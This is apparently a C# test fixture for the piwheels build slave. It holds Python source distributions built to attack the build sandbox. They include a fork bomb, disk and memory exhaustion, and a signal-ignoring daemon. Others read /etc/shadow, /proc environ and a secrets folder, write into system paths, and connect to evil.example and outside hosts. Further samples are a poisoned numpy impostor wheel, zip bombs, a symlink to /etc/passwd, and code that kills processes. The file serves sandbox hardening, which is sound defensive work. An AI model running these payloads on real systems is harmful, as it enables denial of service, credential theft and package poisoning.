namespace Piwheels.Tests.Slave;

/// <summary>Source distributions that do harm when they are built, made here: each is Python for <see cref="SourceIndex"/>.</summary>
/// <param name="secrets">A folder of the slave's user that no build may see.</param>
/// <param name="token">What the processes that they leave behind have in their command lines.</param>
internal sealed class HostilePackages(string secrets, string token, Uri index)
{
    /// <summary>By name, in the order in which they are built.</summary>
    public IReadOnlyDictionary<string, string> All => new Dictionary<string, string>
    {
        ["fork-bomb"] = Before("""
            import time
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.1)  # Enough of them are there to go on
            """),
        ["huge-file"] = Before("""
            with open("huge", "wb") as file:
                file.truncate(100 << 30)
            """),
        ["filled-file"] = Before("""
            with open("/tmp/filled", "wb") as file:
                while True:
                    file.write(bytes(1 << 20))
            """),
        ["many-files"] = Before("""
            import time
            for i in range(10_000):
                with open(f"file-{i}", "wb") as file:
                    file.write(bytes(8 << 20))
                time.sleep(0.05)
            """),
        ["deleted-file"] = Before("""
            import time
            held = []
            for i in range(10_000):
                held.append(open("held", "wb"))
                os.unlink("held")
                held[-1].write(bytes(8 << 20))
                time.sleep(0.05)
            """),
        ["memory-eater"] = Before("""
            import time
            eaten = []
            while True:
                eaten.append(b"x" * (8 << 20))
                time.sleep(0.02)
            """),
        ["hidden-memory"] = Before("""
            import time
            file = os.memfd_create("hidden")
            for i in range(12):  # Up to the largest file
                os.write(file, b"x" * (4 << 20))
            files = [file]
            while True:
                files.append(os.memfd_create("hidden"))
                os.write(files[-1], b"x" * (16 << 20))
                time.sleep(0.05)
            """),
        ["endless-log"] = Before("""
            while True:
                print("so much to say " * 60)  # pip keeps it, in case the build fails
            """),
        ["endless-output"] = Before("""
            with open(f"/proc/{os.getppid()}/fd/1", "w") as file:  # pip's own
                while True:
                    file.write("so much to say " * 60 + "\n")
            """),
        ["cpu-eater"] = Before("""
            import time
            for i in range(2):
                if os.fork() == 0:
                    while True:
                        pass
            time.sleep(600)
            """),
        ["open-files"] = Before("""
            files = [open("/dev/null") for i in range(10_000)]
            """),
        ["daemon"] = Before($$"""
            import subprocess
            if os.fork() == 0:
                os.setsid()
                subprocess.Popen(["sh", "-c", "trap '' TERM HUP; sleep 600; : {{token}}"], start_new_session=True,
                    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                os._exit(0)
            os.wait()
            """),
        ["reader"] = Before($$"""
            import glob
            def show(path):
                try:
                    with open(path) as file:
                        print(f"<{path} is {file.read()!r}>")
                except OSError as e:
                    print(f"<{path} is {type(e).__name__}>")
            for path in ["/etc/passwd", "/etc/shadow", "/etc/hostname", "{{secrets}}/key", "/proc/1/environ"]:
                show(path)
            for pid in glob.glob("/proc/[0-9]*"):
                show(pid + "/environ")
            print("<processes are", len(glob.glob("/proc/[0-9]*")), ">")
            print("<around is", sorted(os.listdir("/")), os.listdir("/build"), os.listdir(os.path.expanduser("~")), ">")
            print("<me is", os.getuid(), os.getgid(), ">")
            raise SystemExit("that is all")
            """),
        ["writer"] = Before($$"""
            def write(path):
                try:
                    with open(path, "w") as file:
                        file.write("I was here")
                    print(f"<{path} written>")
                except OSError as e:
                    print(f"<{path} is {type(e).__name__}>")
            for path in ["/x", "/usr/x", "/usr/lib/python3/dist-packages/x.pth", "/etc/x", "/dev/x", "/build/x",
                         "/build/slave/relay.py", "{{secrets}}/x", "/proc/sys/kernel/hostname", "/var/x", "/run/x"]:
                write(path)
            for path in ["/tmp/x", "/var/tmp/y", "/build/home/x", "/dev/shm/x"]:
                write(path)
            os.execlp("unshare", "unshare", "--user", "--map-root-user", "true")
            """),
        ["connector"] = Before($$"""
            import socket, urllib.request
            for address in [("127.0.0.1", {{index.Port}}), ("192.0.2.1", 80), ("8.8.8.8", 53)]:
                try:
                    socket.create_connection(address, timeout=5)
                    print(f"<{address[0]} connected>")
                except OSError as e:
                    print(f"<{address[0]} is {type(e).__name__}>")
            for url in ["http://evil.example/x", "https://evil.example/x", "http://127.0.0.1:{{index.Port + 1}}/x",
                        "http://127.0.0.1:{{index.Port}}/simple/connector/"]:
                try:
                    urllib.request.urlopen(url, timeout=5)
                    print(f"<{url} connected>")
                except OSError as e:
                    print(f"<{url} is {e}>")
            raise SystemExit("that is all")
            """),
        ["impostor"] = """
            def after_wheel(folder, wheel):
                with zipfile.ZipFile(os.path.join("/build/wheels", "numpy-1.0-py3-none-any.whl"), "w") as other:
                    other.writestr("numpy.py", "import os; os.system('evil')")
            """,
        ["zip-bomb"] = """
            def after_wheel(folder, wheel):
                wheel.writestr("bomb.py", bytes(1 << 20), zipfile.ZIP_DEFLATED)
                wheel.filelist[-1].file_size = 100 << 30
            """,
        ["true-bomb"] = """
            def after_wheel(folder, wheel):
                wheel.writestr("bomb.py", bytes(64 << 20), zipfile.ZIP_DEFLATED)
                wheel.filelist[-1].file_size = 1 << 20  # It says less than comes out
            """,
        ["linker"] = """
            def after_wheel(folder, wheel):
                os.symlink("/etc/passwd", os.path.join("/build/wheels", "linker-1.0-1-py3-none-any.whl"))
            """,
        ["pipe-wheel"] = """
            def after_wheel(folder, wheel):
                os.mkfifo(os.path.join("/build/wheels", "pipe_wheel-1.0-1-py3-none-any.whl"))
            """,
        ["closed-wheel"] = """
            def after_wheel(folder, wheel):
                with open("/build/wheels/closed_wheel-1.0-0-py3-none-any.whl", "wb") as file:
                    file.write(b"PK")
                os.chmod("/build/wheels/closed_wheel-1.0-0-py3-none-any.whl", 0)
            """,
        ["killer"] = Before("""
            import signal
            for pid in (1, os.getppid(), -1):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            """),
        ["deep-folders"] = Before("""
            for i in range(10_000):
                os.mkdir("d")
                os.chdir("d")
            os.mkdir("closed", 0)
            raise SystemExit("that is all")
            """),
        ["odd-rights"] = Before("""
            for i in range(20):
                os.makedirs(f"/build/home/odd-{i}/in/side")
                os.chmod(f"/build/home/odd-{i}/in", 0)
                os.chmod(f"/build/home/odd-{i}", 0o111)
            open(b"/build/home/\xff\xfe", "w").close()
            raise SystemExit("that is all")
            """),
    };

    private static string Before(string body) => "def before_wheel():\n"
        + string.Join('\n', body.Split('\n').Select(line => "    " + line)) + "\n";
}
